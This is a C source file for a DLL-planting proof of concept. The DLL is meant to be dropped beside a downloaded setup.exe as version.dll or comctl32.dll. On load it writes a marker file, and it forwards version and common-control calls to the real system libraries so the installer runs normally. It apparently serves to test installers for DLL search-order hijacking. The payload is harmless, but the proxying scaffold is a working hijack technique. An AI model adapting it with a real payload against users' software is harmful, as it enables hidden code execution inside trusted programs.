/* A DLL that an attacker plants beside a downloaded setup.exe, as
   "version.dll" or "comctl32.dll": loading it leaves "<its own path>.loaded".
   It passes the calls it exports on to the system's copies, so a program
   that imports either still runs as usual. */
#include <windows.h>

static FARPROC system_function(const wchar_t* library, const char* name) {
  wchar_t path[MAX_PATH + 32];
  UINT length = GetSystemDirectoryW(path, MAX_PATH);
  if (length == 0 || length >= MAX_PATH) return NULL;
  path[length] = L'\\';
  lstrcpyW(path + length + 1, library);
  HMODULE module = LoadLibraryW(path);
  return module ? GetProcAddress(module, name) : NULL;
}

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID reserved) {
  (void)reserved;
  if (reason != DLL_PROCESS_ATTACH) return TRUE;
  wchar_t path[MAX_PATH + 16];
  DWORD length = GetModuleFileNameW(self, path, MAX_PATH);
  if (length == 0 || length >= MAX_PATH) return TRUE;
  lstrcpyW(path + length, L".loaded");
  HANDLE marker = CreateFileW(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
  if (marker != INVALID_HANDLE_VALUE) CloseHandle(marker);
  return TRUE;
}

/* Exported under the system's names by planted_version.def. */
typedef DWORD(WINAPI* InfoSizeFn)(LPCWSTR, LPDWORD);
typedef BOOL(WINAPI* InfoFn)(LPCWSTR, DWORD, DWORD, LPVOID);
typedef BOOL(WINAPI* QueryFn)(LPCVOID, LPCWSTR, LPVOID*, PUINT);

DWORD WINAPI PlantedInfoSize(LPCWSTR name, LPDWORD handle) {
  InfoSizeFn call = (InfoSizeFn)(void*)system_function(L"version.dll", "GetFileVersionInfoSizeW");
  return call ? call(name, handle) : 0;
}

BOOL WINAPI PlantedInfo(LPCWSTR name, DWORD handle, DWORD size, LPVOID data) {
  InfoFn call = (InfoFn)(void*)system_function(L"version.dll", "GetFileVersionInfoW");
  return call ? call(name, handle, size, data) : FALSE;
}

BOOL WINAPI PlantedQuery(LPCVOID block, LPCWSTR sub_block, LPVOID* buffer, PUINT length) {
  QueryFn call = (QueryFn)(void*)system_function(L"version.dll", "VerQueryValueW");
  return call ? call(block, sub_block, buffer, length) : FALSE;
}

typedef BOOL(WINAPI* InitFn)(const void*);

BOOL WINAPI PlantedInit(const void* controls) {
  InitFn call = (InitFn)(void*)system_function(L"comctl32.dll", "InitCommonControlsEx");
  return call ? call(controls) : FALSE;
}
